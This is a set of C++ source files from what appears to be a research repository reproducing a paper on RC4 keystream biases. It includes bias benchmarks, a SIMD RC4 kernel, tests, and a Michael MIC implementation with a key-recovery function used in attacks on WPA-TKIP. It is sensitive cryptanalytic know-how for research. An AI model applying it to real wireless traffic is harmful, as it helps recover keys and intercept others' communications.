  const auto dependence = ScanPairDependence(grid);
  EXPECT_TRUE(dependence[0].dependent);  // Z1-Z2 dependency detected

  const auto cells = FindBiasedCells(grid, 0);
  ASSERT_FALSE(cells.empty());
  bool found = false;
  for (const auto& cell : cells) {
    if (cell.v1 == 0 && cell.v2 == 0) {
      found = true;
      EXPECT_GT(cell.relative_bias, 0.2);
      EXPECT_LT(cell.relative_bias, 0.9);
    }
  }
  EXPECT_TRUE(found) << "Z1 = Z2 = 0 cell not flagged";
}

}  // namespace
}  // namespace rc4b
