#include "src/crypto/michael.h"

#include <cassert>
#include <cstring>
#include <vector>

#include "src/common/bytes.h"

namespace rc4b {

namespace {

// Swaps the two bytes within each 16-bit half of a 32-bit word.
uint32_t XSwap(uint32_t x) {
  return ((x & 0xff00ff00u) >> 8) | ((x & 0x00ff00ffu) << 8);
}

struct State {
  uint32_t l;
  uint32_t r;
};

// The unkeyed Michael block function b(L, R).
void Block(State& s) {
  s.r ^= Rotl32(s.l, 17);
  s.l += s.r;
  s.r ^= XSwap(s.l);
  s.l += s.r;
  s.r ^= Rotl32(s.l, 3);
  s.l += s.r;
  s.r ^= Rotr32(s.l, 2);
  s.l += s.r;
}

// Exact inverse of Block: undo the four add/xor rounds in reverse order.
void InverseBlock(State& s) {
  s.l -= s.r;
  s.r ^= Rotr32(s.l, 2);
  s.l -= s.r;
  s.r ^= Rotl32(s.l, 3);
  s.l -= s.r;
  s.r ^= XSwap(s.l);
  s.l -= s.r;
  s.r ^= Rotl32(s.l, 17);
}

// Message padding: append 0x5a, then zero bytes to the next multiple of four,
// then one additional all-zero word (IEEE 802.11 11.4.2.3.2).
std::vector<uint32_t> PadToWords(std::span<const uint8_t> message) {
  std::vector<uint8_t> padded(message.begin(), message.end());
  padded.push_back(0x5a);
  while (padded.size() % 4 != 0) {
    padded.push_back(0x00);
  }
  for (int i = 0; i < 4; ++i) {
    padded.push_back(0x00);
  }
  std::vector<uint32_t> words(padded.size() / 4);
  for (size_t i = 0; i < words.size(); ++i) {
    words[i] = LoadLe32(padded.data() + 4 * i);
  }
  return words;
}

}  // namespace

MichaelKey MichaelKeyFromBytes(std::span<const uint8_t> key8) {
  assert(key8.size() == 8);
  return MichaelKey{LoadLe32(key8.data()), LoadLe32(key8.data() + 4)};
}

std::array<uint8_t, 8> MichaelKeyToBytes(const MichaelKey& key) {
  std::array<uint8_t, 8> out;
  StoreLe32(key.l, out.data());
  StoreLe32(key.r, out.data() + 4);
  return out;
}

std::array<uint8_t, 8> MichaelMic(const MichaelKey& key,
                                  std::span<const uint8_t> message) {
  State s{key.l, key.r};
  for (uint32_t word : PadToWords(message)) {
    s.l ^= word;
    Block(s);
  }
  std::array<uint8_t, 8> out;
  StoreLe32(s.l, out.data());
  StoreLe32(s.r, out.data() + 4);
  return out;
}

MichaelKey MichaelRecoverKey(std::span<const uint8_t> message,
                             std::span<const uint8_t> mic8) {
  assert(mic8.size() == 8);
  State s{LoadLe32(mic8.data()), LoadLe32(mic8.data() + 4)};
  const auto words = PadToWords(message);
  for (size_t i = words.size(); i-- > 0;) {
    InverseBlock(s);
    s.l ^= words[i];
  }
  return MichaelKey{s.l, s.r};
}

std::array<uint8_t, 16> MichaelHeader(std::span<const uint8_t> da6,
                                      std::span<const uint8_t> sa6, uint8_t priority) {
  assert(da6.size() == 6 && sa6.size() == 6);
  std::array<uint8_t, 16> header{};
  std::memcpy(header.data(), da6.data(), 6);
  std::memcpy(header.data() + 6, sa6.data(), 6);
  header[12] = priority;
  return header;
}

}  // namespace rc4b
