#include "src/orchestrate/clock.h"

#include <chrono>

namespace rc4b::orchestrate {

SystemClock& SystemClock::Instance() {
  static SystemClock clock;
  return clock;
}

uint64_t SystemClock::NowMs() {
  // The single real-clock seam: lease heartbeats must be comparable across
  // process (eventually host) boundaries, which steady_clock is not.
  const auto now = std::chrono::system_clock::now();  // lint:allow(wall-clock)
  return static_cast<uint64_t>(
      std::chrono::duration_cast<std::chrono::milliseconds>(now.time_since_epoch())
          .count());
}

}  // namespace rc4b::orchestrate
