// Table 2 + equations (2)-(5) — short-term biases between (non-)consecutive
// keystream bytes. Regenerates consec- and pair-style datasets and reports
// the measured probability of each listed byte pair against the paper's
// value, with detection z-scores.
#include <cstdio>
#include <vector>

#include "bench/harness.h"
#include "src/biases/dataset.h"
#include "src/common/flags.h"

namespace rc4b {
namespace {

struct Table2Entry {
  uint32_t pos1, pos2;   // 1-based keystream positions
  int v1, v2;            // byte values; -1 in v2 means "equal values" family
  double paper_probability;
  const char* label;
};

// Table 2 of the paper: consecutive Z_{16w-1} = Z_{16w} = 256 - 16w biases
// and the strongest non-consecutive pairs, with the paper's probabilities.
const Table2Entry kEntries[] = {
    // Consecutive key-length-dependent biases (formula 2).
    {15, 16, 240, 240, 0.0, "Z15=Z16=240"},  // probabilities come from kPaperForms
    {31, 32, 224, 224, 0.0, "Z31=Z32=224"},
    {47, 48, 208, 208, 0.0, "Z47=Z48=208"},
    {63, 64, 192, 192, 0.0, "Z63=Z64=192"},
    {79, 80, 176, 176, 0.0, "Z79=Z80=176"},
    {95, 96, 160, 160, 0.0, "Z95=Z96=160"},
    {111, 112, 144, 144, 0.0, "Z111=Z112=144"},
    // Non-consecutive biases.
    {3, 5, 4, 4, 0.0, "Z3=4,Z5=4"},
    {3, 131, 131, 3, 0.0, "Z3=131,Z131=3"},
    {3, 131, 131, 131, 0.0, "Z3=131,Z131=131"},
    {4, 6, 5, 255, 0.0, "Z4=5,Z6=255"},
    {14, 16, 0, 14, 0.0, "Z14=0,Z16=14"},
    {15, 17, 47, 16, 0.0, "Z15=47,Z17=16"},
    {15, 32, 112, 224, 0.0, "Z15=112,Z32=224"},
    {15, 32, 159, 224, 0.0, "Z15=159,Z32=224"},
    {16, 31, 240, 63, 0.0, "Z16=240,Z31=63"},
    {16, 32, 240, 16, 0.0, "Z16=240,Z32=16"},
    {16, 33, 240, 16, 0.0, "Z16=240,Z33=16"},
    {16, 40, 240, 32, 0.0, "Z16=240,Z40=32"},
    {16, 48, 240, 16, 0.0, "Z16=240,Z48=16"},
    {16, 48, 240, 208, 0.0, "Z16=240,Z48=208"},
    {16, 64, 240, 192, 0.0, "Z16=240,Z64=192"},
};

// Paper probabilities 2^a (1 +/- 2^b) for the entries above, same order.
struct PaperForm {
  double base_exp;   // a in 2^a
  double bias_exp;   // b in 2^b
  int sign;          // +1 or -1
};
const PaperForm kPaperForms[] = {
    {-15.94786, -4.894, -1}, {-15.96486, -5.427, -1}, {-15.97595, -5.963, -1},
    {-15.98363, -6.469, -1}, {-15.99020, -7.150, -1}, {-15.99405, -7.740, -1},
    {-15.99668, -8.331, -1},
    {-16.00243, -7.912, +1}, {-15.99543, -8.700, +1}, {-15.99347, -9.511, -1},
    {-15.99918, -8.208, +1}, {-15.99349, -9.941, +1}, {-16.00191, -11.279, +1},
    {-15.96637, -10.904, -1}, {-15.96574, -9.493, +1}, {-15.95021, -8.996, +1},
    {-15.94976, -9.261, +1}, {-15.94960, -10.516, +1}, {-15.94976, -10.933, +1},
    {-15.94989, -10.832, +1}, {-15.92619, -10.965, -1}, {-15.93357, -11.229, -1},
};

struct EqualityBias {
  uint32_t pos1, pos2;
  double bias_exp;  // Pr = 2^-8 (1 + sign * 2^bias_exp)
  int sign;
  const char* label;
};
// Equations (3)-(5).
const EqualityBias kEqualities[] = {
    {1, 3, -9.617, -1, "Pr[Z1=Z3] (eq 3)"},
    {1, 4, -8.590, +1, "Pr[Z1=Z4] (eq 4)"},
    {2, 4, -9.622, -1, "Pr[Z2=Z4] (eq 5)"},
};

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{
      .count_flag = "keys",
      .count_default = "0x20000000",
      .count_help = "RC4 keys (2^29; paper used 2^44-2^45)",
      .seed_default = "7",
      .seed_help = "dataset seed"};
  FlagSet flags("Table 2 + eqs (2)-(5): short-term pair biases");
  DefineScaleFlags(flags, scale)
      .Define("grid-cache", "",
              "warm-start: load-or-store the dataset grid in this directory "
              "(docs/store.md)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const auto [keys, workers, seed, interleave, kernel] = GetScaleFlags(flags, scale);
  DatasetOptions options;
  options.keys = keys;
  options.workers = workers;
  options.seed = seed;
  options.interleave = interleave;
  options.kernel = kernel;
  options.cache_dir = flags.GetString("grid-cache");

  bench::PrintHeader("bench_table2_pair_biases",
                     "Table 2 and eqs (2)-(5) (biases between keystream bytes)",
                     "");

  std::vector<std::pair<uint32_t, uint32_t>> pairs;
  for (const auto& e : kEntries) {
    pairs.emplace_back(e.pos1, e.pos2);
  }
  for (const auto& e : kEqualities) {
    pairs.emplace_back(e.pos1, e.pos2);
  }
  const auto grid = GeneratePairDataset(pairs, options);
  const double n = static_cast<double>(grid.keys());

  std::printf("%-20s %12s %12s %8s %s\n", "pair", "measured", "paper", "z",
              "sig");
  for (size_t e = 0; e < std::size(kEntries); ++e) {
    const auto& entry = kEntries[e];
    const auto& form = kPaperForms[e];
    const double paper_p =
        std::exp2(form.base_exp) * (1.0 + form.sign * std::exp2(form.bias_exp));
    const uint64_t count = grid.Count(e, static_cast<uint8_t>(entry.v1),
                                      static_cast<uint8_t>(entry.v2));
    const double measured = static_cast<double>(count) / n;
    const double sigma = std::sqrt(paper_p / n);
    const double z = (measured - paper_p) / sigma;
    // Detection z against the *uniform* 2^-16 null.
    const double detect = (measured - 0x1.0p-16) / std::sqrt(0x1.0p-16 / n);
    std::printf("%-20s %12.4e %12.4e %8.2f %-5s (vs uniform: %+6.2f)\n",
                entry.label, measured, paper_p, z, bench::Stars(z), detect);
  }

  std::printf("\nEquality biases (probability of Z_a = Z_b):\n");
  std::printf("%-20s %12s %12s %8s\n", "pair", "measured", "paper", "z(uni)");
  for (size_t e = 0; e < std::size(kEqualities); ++e) {
    const auto& eq = kEqualities[e];
    const size_t row = std::size(kEntries) + e;
    uint64_t count = 0;
    for (int v = 0; v < 256; ++v) {
      count += grid.Count(row, static_cast<uint8_t>(v), static_cast<uint8_t>(v));
    }
    const double measured = static_cast<double>(count) / n;
    const double paper_p = 0x1.0p-8 * (1.0 + eq.sign * std::exp2(eq.bias_exp));
    const double z = (measured - 0x1.0p-8) / std::sqrt(0x1.0p-8 / n);
    std::printf("%-20s %12.6e %12.6e %+8.2f\n", eq.label, measured, paper_p, z);
  }
  std::printf("\n(paper probabilities needed ~2^44 keys; at --keys=2^29 only "
              "the strongest rows reach multi-sigma detection)\n");
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
