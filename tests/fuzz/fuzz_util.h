// Shared plumbing for the fuzz harnesses in this directory. Every target
// under test consumes a *file* (the readers validate mmap'd or fopen'd
// bytes), so each harness round-trips the fuzz input through one per-process
// scratch file. Deterministic on purpose: fixed file names inside a
// pid-scoped directory, no wall clock, no randomness — the same input bytes
// always take the same path through the parser.
#ifndef TESTS_FUZZ_FUZZ_UTIL_H_
#define TESTS_FUZZ_FUZZ_UTIL_H_

#include <cstdint>
#include <cstdio>
#include <string>

#include <sys/stat.h>
#include <unistd.h>

namespace rc4b::fuzz {

// Per-process scratch directory, created on first use.
inline const std::string& ScratchDir() {
  static const std::string dir = [] {
    const std::string path =
        "/tmp/rc4b-fuzz-" + std::to_string(::getpid());
    ::mkdir(path.c_str(), 0700);
    return path;
  }();
  return dir;
}

inline std::string ScratchPath(const char* name) {
  return ScratchDir() + "/" + name;
}

// Writes the raw fuzz input to `path` (plain write; the parsers under test
// must reject torn files anyway, so atomicity is beside the point here).
inline bool WriteInput(const std::string& path, const uint8_t* data,
                       size_t size) {
  std::FILE* file = std::fopen(path.c_str(), "wb");
  if (file == nullptr) {
    return false;
  }
  const bool ok = size == 0 || std::fwrite(data, 1, size, file) == size;
  std::fclose(file);
  return ok;
}

}  // namespace rc4b::fuzz

#endif  // TESTS_FUZZ_FUZZ_UTIL_H_
