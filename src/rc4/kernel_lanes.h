// Transposed-lane RC4 kernel template, shared by the ISA-specific TUs
// (kernel_ssse3.cc, kernel_avx2.cc, kernel_neon.cc — each compiled with its
// own -m flags, so this header must only be included from those files).
//
// Layout: where Rc4MultiStream keeps W whole permutations side by side, this
// kernel transposes them — row v of `st_` holds byte v of ALL lanes, so the
// lane-invariant accesses become single W-wide vector ops:
//
//   * i (and the KSA's key index i mod keylen) never depend on key or state,
//     so S[i] of all lanes is ONE aligned vector load of row st_[i], and the
//     key column of all lanes is one load of the transposed key row;
//   * the j update  j += S[i] (+ key)  is one vector byte-add for all lanes;
//   * the output index  S[i] + S[j]  is one vector byte-add;
//   * writing S[i] = old S[j] for all lanes is one vector store of row st_[i].
//
// Only the truly lane-divergent accesses stay scalar: reading/writing column
// m at row j[m] (the swap's S[j] side) and the final output gather
// S[S[i]+S[j]]. Those are W independent single-byte loads/stores per output
// byte — no dependency chain between lanes, so they pipeline — while all
// arithmetic and the entire S[i] row traffic runs at vector width. The math
// per lane is untouched; bit-exactness versus scalar Rc4 is structural.
#ifndef SRC_RC4_KERNEL_LANES_H_
#define SRC_RC4_KERNEL_LANES_H_

#include <cstdint>
#include <cstring>
#include <span>

#include "src/rc4/kernel.h"

namespace rc4b {

// V supplies: kWidth, Reg, Load(const uint8_t*), Store(uint8_t*, Reg),
// Add8(Reg, Reg), Zero(), Set1(uint8_t). Rows of st_/kt_ are kWidth bytes
// and 64-byte aligned at the base, so every row load/store is aligned.
template <typename V>
class TransposedLaneKernel final : public Rc4LaneKernel {
 public:
  static constexpr size_t kW = V::kWidth;

  size_t Width() const override { return kW; }

  void Init(std::span<const uint8_t> keys, size_t key_size) override {
    // Transpose the key material once: kt_ row p holds key byte p of every
    // lane, indexed by the shared KSA key index i mod key_size.
    for (size_t p = 0; p < key_size; ++p) {
      for (size_t m = 0; m < kW; ++m) {
        kt_[p][m] = keys[m * key_size + p];
      }
    }
    for (size_t v = 0; v < 256; ++v) {
      V::Store(st_[v], V::Set1(static_cast<uint8_t>(v)));
    }
    typename V::Reg j = V::Zero();
    alignas(64) uint8_t jb[kW];
    for (size_t i = 0; i < 256; ++i) {
      j = V::Add8(j, V::Add8(V::Load(st_[i]), V::Load(kt_[i % key_size])));
      V::Store(jb, j);
      for (size_t m = 0; m < kW; ++m) {
        const uint8_t jm = jb[m];
        const uint8_t si = st_[i][m];
        st_[i][m] = st_[jm][m];
        st_[jm][m] = si;
      }
    }
    j_ = V::Zero();
    i_ = 0;
  }

  void Skip(uint64_t n) override { Generate<false>(nullptr, n, 0); }

  void Keystream(uint8_t* out, size_t length, size_t stride) override {
    Generate<true>(out, length, stride);
  }

 private:
  template <bool kEmit>
  void Generate(uint8_t* out, uint64_t length, size_t stride) {
    typename V::Reg j = j_;
    uint8_t i = i_;
    alignas(64) uint8_t jb[kW];
    alignas(64) uint8_t sib[kW];
    alignas(64) uint8_t sjb[kW];
    alignas(64) uint8_t ib[kW];
    for (uint64_t t = 0; t < length; ++t) {
      i = static_cast<uint8_t>(i + 1);
      const typename V::Reg si = V::Load(st_[i]);
      j = V::Add8(j, si);
      V::Store(jb, j);
      V::Store(sib, si);
      // Lane-divergent half of the swap: fetch old S[j], store old S[i]
      // there. When j[m] == i this writes S[i] = S[i] (no-op), and the row
      // store below rewrites st_[i][m] with the same value — still exact.
      for (size_t m = 0; m < kW; ++m) {
        const uint8_t jm = jb[m];
        sjb[m] = st_[jm][m];
        st_[jm][m] = sib[m];
      }
      const typename V::Reg sj = V::Load(sjb);
      V::Store(st_[i], sj);  // S[i] = old S[j], all lanes at once
      if constexpr (kEmit) {
        V::Store(ib, V::Add8(si, sj));
        for (size_t m = 0; m < kW; ++m) {
          out[m * stride + t] = st_[ib[m]][m];
        }
      }
    }
    j_ = j;
    i_ = i;
  }

  alignas(64) uint8_t st_[256][kW];
  alignas(64) uint8_t kt_[256][kW];  // transposed key columns (KSA only)
  typename V::Reg j_;
  uint8_t i_ = 0;
};

}  // namespace rc4b

#endif  // SRC_RC4_KERNEL_LANES_H_
