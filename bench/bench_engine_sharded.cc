// Sharded keystream-engine throughput: keystreams/sec single-thread vs.
// multi-shard, for the single-byte and consecutive-digraph accumulators,
// plus a bit-exactness check that the sharded merge equals the
// single-threaded reference for the same seed (the engine's core guarantee).
//
// This is the repo's perf-trajectory bench for the dataset hot path every
// attack scenario (Fig. 4-10, Tables 1-2) sits on; the nightly CI job
// uploads its output as an artifact.
#include <chrono>
#include <cstdio>

#include "bench/harness.h"
#include "src/common/flags.h"
#include "src/common/thread_pool.h"
#include "src/engine/accumulators.h"
#include "src/engine/keystream_engine.h"

namespace rc4b {
namespace {

double SecondsSince(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
      .count();
}

template <typename Accumulator>
double TimedRun(const EngineOptions& options, Accumulator& accumulator) {
  const auto start = std::chrono::steady_clock::now();
  RunKeystreamEngine(options, accumulator);
  return SecondsSince(start);
}

template <typename MakeAccumulator>
void RunMode(const char* mode, uint64_t keys, uint64_t seed, unsigned threads,
             MakeAccumulator make_accumulator) {
  EngineOptions options;
  options.keys = keys;
  options.seed = seed;

  options.workers = 1;
  auto reference = make_accumulator();
  const double single_s = TimedRun(options, reference);

  options.workers = threads;
  auto sharded = make_accumulator();
  const double multi_s = TimedRun(options, sharded);

  const double n = static_cast<double>(keys);
  const bool exact = reference.grid() == sharded.grid();
  std::printf("%-12s %10.0f ks/s (1 thread)  %10.0f ks/s (%u threads)  "
              "speedup %.2fx  merge bit-exact: %s\n",
              mode, n / single_s, n / multi_s, threads, single_s / multi_s,
              exact ? "OK" : "FAILED");
}

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{
      .count_flag = "keys",
      .count_default = "0x80000",
      .count_help = "RC4 keys per run (2^19)",
      .workers_flag = "threads",
      .workers_help = "shard count for the parallel run (0 = all cores)",
      .seed_default = "42",
      .seed_help = "engine seed"};
  FlagSet flags("Sharded keystream-statistics engine throughput");
  DefineScaleFlags(flags, scale)
      .Define("positions", "256", "keystream positions per key");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }
  const auto [keys, parsed_threads, seed] = GetScaleFlags(flags, scale);
  const size_t positions = static_cast<size_t>(flags.GetUint("positions"));
  const unsigned threads =
      parsed_threads != 0 ? parsed_threads : DefaultWorkerCount();

  bench::PrintHeader(
      "bench_engine_sharded",
      "Sect. 3.2 dataset generation (engine substrate for Fig. 4-10, Tab. 1-2)",
      "keystreams/sec, single shard vs. all cores, with merge bit-exactness");
  std::printf("keys=%llu positions=%zu threads=%u (hardware: %u)\n\n",
              static_cast<unsigned long long>(keys), positions, threads,
              DefaultWorkerCount());

  RunMode("single-byte", keys, seed, threads,
          [&] { return SingleByteAccumulator(positions); });
  RunMode("digraph", keys, seed, threads,
          [&] { return ConsecutiveAccumulator(positions); });
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
