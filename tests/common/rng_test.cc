#include "src/common/rng.h"

#include <cmath>
#include <cstdint>
#include <vector>

#include <gtest/gtest.h>

namespace rc4b {
namespace {

TEST(RngTest, Deterministic) {
  Xoshiro256 a(42);
  Xoshiro256 b(42);
  for (int i = 0; i < 100; ++i) {
    EXPECT_EQ(a(), b());
  }
}

TEST(RngTest, DifferentSeedsDiffer) {
  Xoshiro256 a(1);
  Xoshiro256 b(2);
  int equal = 0;
  for (int i = 0; i < 64; ++i) {
    equal += a() == b() ? 1 : 0;
  }
  EXPECT_EQ(equal, 0);
}

TEST(RngTest, BelowRespectsBound) {
  Xoshiro256 rng(7);
  for (int i = 0; i < 10000; ++i) {
    EXPECT_LT(rng.Below(10), 10u);
  }
}

TEST(RngTest, BelowRoughlyUniform) {
  Xoshiro256 rng(11);
  std::vector<int> buckets(8, 0);
  const int n = 80000;
  for (int i = 0; i < n; ++i) {
    ++buckets[rng.Below(8)];
  }
  for (int count : buckets) {
    // 5-sigma band around n/8.
    EXPECT_NEAR(count, n / 8, 5 * std::sqrt(n / 8.0));
  }
}

TEST(RngTest, UnitDoubleInRange) {
  Xoshiro256 rng(3);
  for (int i = 0; i < 10000; ++i) {
    const double u = rng.UnitDouble();
    EXPECT_GE(u, 0.0);
    EXPECT_LT(u, 1.0);
  }
}

TEST(RngTest, NormalMoments) {
  Xoshiro256 rng(5);
  const int n = 200000;
  double sum = 0.0, sum2 = 0.0;
  for (int i = 0; i < n; ++i) {
    const double z = rng.Normal();
    sum += z;
    sum2 += z * z;
  }
  const double mean = sum / n;
  const double var = sum2 / n - mean * mean;
  EXPECT_NEAR(mean, 0.0, 0.02);
  EXPECT_NEAR(var, 1.0, 0.03);
}

TEST(RngTest, FillCoversAllBytePositions) {
  Xoshiro256 rng(9);
  Bytes buf(37, 0);  // deliberately not a multiple of 8
  rng.Fill(buf);
  // With 37 random bytes the chance that any fixed byte stays 0 is 1/256;
  // check at least half are nonzero (overwhelmingly likely).
  int nonzero = 0;
  for (uint8_t b : buf) {
    nonzero += b != 0 ? 1 : 0;
  }
  EXPECT_GT(nonzero, 18);
}

TEST(RngTest, ByteUsesHighBits) {
  Xoshiro256 rng(13);
  std::vector<int> seen(256, 0);
  for (int i = 0; i < 65536; ++i) {
    ++seen[rng.Byte()];
  }
  int missing = 0;
  for (int c : seen) {
    missing += c == 0 ? 1 : 0;
  }
  EXPECT_EQ(missing, 0);  // every byte value should appear in 64k draws
}

}  // namespace
}  // namespace rc4b
