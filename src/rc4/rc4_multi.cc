#include "src/rc4/rc4_multi.h"

namespace rc4b {

size_t ResolveInterleave(size_t requested) {
  if (requested == 0) {
    return kDefaultInterleave;
  }
  size_t resolved = 1;
  for (size_t width : kInterleaveWidths) {
    if (width <= requested) {
      resolved = width;
    }
  }
  return resolved;
}

}  // namespace rc4b
