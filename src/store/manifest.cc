#include "src/store/manifest.h"

#include <algorithm>
#include <charconv>
#include <sstream>

namespace rc4b::store {

namespace {

std::string FormatPairs(const std::vector<std::pair<uint32_t, uint32_t>>& pairs) {
  std::string out;
  for (size_t p = 0; p < pairs.size(); ++p) {
    if (p != 0) {
      out.push_back(',');
    }
    out += std::to_string(pairs[p].first) + ":" + std::to_string(pairs[p].second);
  }
  return out;
}

bool ParseU64(std::string_view text, uint64_t* out) {
  const char* end = text.data() + text.size();
  const auto [ptr, ec] = std::from_chars(text.data(), end, *out);
  return ec == std::errc() && ptr == end;
}

IoStatus ParsePairs(std::string_view text, const std::string& context,
                    std::vector<std::pair<uint32_t, uint32_t>>* out) {
  out->clear();
  while (!text.empty()) {
    const size_t comma = text.find(',');
    const std::string_view item = text.substr(0, comma);
    text = comma == std::string_view::npos ? std::string_view()
                                           : text.substr(comma + 1);
    const size_t colon = item.find(':');
    uint64_t a = 0;
    uint64_t b = 0;
    if (colon == std::string_view::npos || !ParseU64(item.substr(0, colon), &a) ||
        !ParseU64(item.substr(colon + 1), &b) || a > UINT32_MAX ||
        b > UINT32_MAX) {
      return IoStatus::Fail(context + ": bad pair \"" + std::string(item) +
                            "\" (expected a:b)");
    }
    out->emplace_back(static_cast<uint32_t>(a), static_cast<uint32_t>(b));
  }
  return IoStatus::Ok();
}

}  // namespace

Manifest PlanShards(const GridMeta& grid, uint32_t shard_count,
                    const std::string& prefix) {
  Manifest manifest;
  manifest.grid = grid;
  manifest.grid.samples = 0;
  const uint64_t keys = grid.key_end - grid.key_begin;
  const uint64_t count = std::max<uint64_t>(
      1, std::min<uint64_t>(shard_count == 0 ? 1 : shard_count, keys));
  uint64_t begin = grid.key_begin;
  for (uint64_t s = 0; s < count; ++s) {
    // Same near-equal chunking as the in-process thread shards: the first
    // keys % count shards take one extra key.
    const uint64_t size = keys / count + (s < keys % count ? 1 : 0);
    ShardEntry entry;
    entry.key_begin = begin;
    entry.key_end = begin + size;
    entry.path = prefix + "-shard" + std::to_string(s) + ".grid";
    begin = entry.key_end;
    manifest.shards.push_back(std::move(entry));
  }
  return manifest;
}

IoStatus ExtendManifestPlan(Manifest* manifest, uint64_t new_key_end,
                            uint32_t added_shards, const std::string& prefix) {
  const uint64_t old_end = manifest->grid.key_end;
  if (new_key_end <= old_end) {
    return IoStatus::Fail("extend: new key_end " + std::to_string(new_key_end) +
                          " does not grow the range (current end " +
                          std::to_string(old_end) + ")");
  }
  if (added_shards == 0) {
    return IoStatus::Fail("extend: added_shards must be at least 1");
  }
  const uint64_t keys = new_key_end - old_end;
  const uint64_t count = std::min<uint64_t>(added_shards, keys);
  const uint64_t next_index = manifest->shards.size();
  uint64_t begin = old_end;
  for (uint64_t s = 0; s < count; ++s) {
    const uint64_t size = keys / count + (s < keys % count ? 1 : 0);
    ShardEntry entry;
    entry.key_begin = begin;
    entry.key_end = begin + size;
    entry.path = prefix + "-shard" + std::to_string(next_index + s) + ".grid";
    begin = entry.key_end;
    manifest->shards.push_back(std::move(entry));
  }
  manifest->grid.key_end = new_key_end;
  return IoStatus::Ok();
}

IoStatus ValidateManifest(const Manifest& manifest, const std::string& context) {
  if (IoStatus status = ValidateMeta(manifest.grid, context); !status.ok()) {
    return status;
  }
  if (manifest.shards.empty()) {
    return IoStatus::Fail(context + ": manifest lists no shards");
  }
  std::vector<ShardEntry> sorted = manifest.shards;
  std::sort(sorted.begin(), sorted.end(),
            [](const ShardEntry& a, const ShardEntry& b) {
              return a.key_begin < b.key_begin;
            });
  uint64_t expect = manifest.grid.key_begin;
  for (const ShardEntry& shard : sorted) {
    if (shard.key_begin >= shard.key_end) {
      return IoStatus::Fail(context + ": shard " + shard.path +
                            " covers an empty key range");
    }
    if (shard.key_begin != expect) {
      return IoStatus::Fail(
          context + ": shard coverage " +
          (shard.key_begin > expect ? "gap" : "overlap") + " at key " +
          std::to_string(std::min(expect, shard.key_begin)) + " (shard " +
          shard.path + " starts at " + std::to_string(shard.key_begin) +
          ", expected " + std::to_string(expect) + ")");
    }
    expect = shard.key_end;
  }
  if (expect != manifest.grid.key_end) {
    return IoStatus::Fail(context + ": shards cover keys up to " +
                          std::to_string(expect) + " but the grid ends at " +
                          std::to_string(manifest.grid.key_end));
  }
  return IoStatus::Ok();
}

IoStatus WriteManifest(const std::string& path, const Manifest& manifest) {
  if (IoStatus status = ValidateManifest(manifest, path); !status.ok()) {
    return status;
  }
  std::string out;
  out += "rc4b-grid-manifest 1\n";
  out += "kind " + std::string(GridKindName(manifest.grid.kind)) + "\n";
  out += "seed " + std::to_string(manifest.grid.seed) + "\n";
  out += "key_begin " + std::to_string(manifest.grid.key_begin) + "\n";
  out += "key_end " + std::to_string(manifest.grid.key_end) + "\n";
  out += "rows " + std::to_string(manifest.grid.rows) + "\n";
  out += "drop " + std::to_string(manifest.grid.drop) + "\n";
  out += "bytes_per_key " + std::to_string(manifest.grid.bytes_per_key) + "\n";
  if (manifest.grid.kind == GridKind::kPair) {
    out += "pairs " + FormatPairs(manifest.grid.pairs) + "\n";
  }
  for (const ShardEntry& shard : manifest.shards) {
    out += "shard " + std::to_string(shard.key_begin) + " " +
           std::to_string(shard.key_end) + " " + shard.path + "\n";
  }
  return WriteFileAtomic(path, out);
}

IoStatus ReadManifest(const std::string& path, Manifest* out) {
  MmapFile map;
  if (IoStatus status = MmapFile::Open(path, &map); !status.ok()) {
    return status;
  }
  const auto bytes = map.bytes();
  std::istringstream in(
      std::string(reinterpret_cast<const char*>(bytes.data()), bytes.size()));
  std::string line;
  if (!std::getline(in, line) || line != "rc4b-grid-manifest 1") {
    return IoStatus::Fail(path + ": not a grid manifest (bad first line \"" +
                          line + "\")");
  }
  *out = Manifest{};
  bool have_kind = false;
  size_t line_no = 1;
  while (std::getline(in, line)) {
    ++line_no;
    if (line.empty() || line[0] == '#') {
      continue;
    }
    const std::string context =
        path + ":" + std::to_string(line_no);
    std::istringstream fields(line);
    std::string keyword;
    fields >> keyword;
    std::string value;
    if (keyword == "shard") {
      ShardEntry shard;
      std::string begin_text;
      std::string end_text;
      fields >> begin_text >> end_text >> shard.path;
      if (!ParseU64(begin_text, &shard.key_begin) ||
          !ParseU64(end_text, &shard.key_end) || shard.path.empty()) {
        return IoStatus::Fail(context + ": bad shard line \"" + line + "\"");
      }
      out->shards.push_back(std::move(shard));
      continue;
    }
    fields >> value;
    if (keyword == "kind") {
      if (!ParseGridKind(value, &out->grid.kind)) {
        return IoStatus::Fail(context + ": unknown grid kind \"" + value + "\"");
      }
      have_kind = true;
    } else if (keyword == "pairs") {
      if (IoStatus status = ParsePairs(value, context, &out->grid.pairs);
          !status.ok()) {
        return status;
      }
    } else if (keyword == "seed" || keyword == "key_begin" ||
               keyword == "key_end" || keyword == "rows" || keyword == "drop" ||
               keyword == "bytes_per_key") {
      uint64_t parsed = 0;
      if (!ParseU64(value, &parsed)) {
        return IoStatus::Fail(context + ": bad value \"" + value + "\" for " +
                              keyword);
      }
      if (keyword == "seed") {
        out->grid.seed = parsed;
      } else if (keyword == "key_begin") {
        out->grid.key_begin = parsed;
      } else if (keyword == "key_end") {
        out->grid.key_end = parsed;
      } else if (keyword == "rows") {
        out->grid.rows = parsed;
      } else if (keyword == "drop") {
        out->grid.drop = parsed;
      } else {
        out->grid.bytes_per_key = parsed;
      }
    } else {
      return IoStatus::Fail(context + ": unknown keyword \"" + keyword + "\"");
    }
  }
  if (!have_kind) {
    return IoStatus::Fail(path + ": manifest is missing the kind field");
  }
  return ValidateManifest(*out, path);
}

std::string ResolveManifestPath(const std::string& manifest_path,
                                const std::string& shard_path) {
  if (!shard_path.empty() && shard_path[0] == '/') {
    return shard_path;
  }
  const size_t slash = manifest_path.find_last_of('/');
  if (slash == std::string::npos) {
    return shard_path;
  }
  return manifest_path.substr(0, slash + 1) + shard_path;
}

std::string CheckpointPath(const std::string& shard_path) {
  return shard_path + ".ckpt";
}

}  // namespace rc4b::store
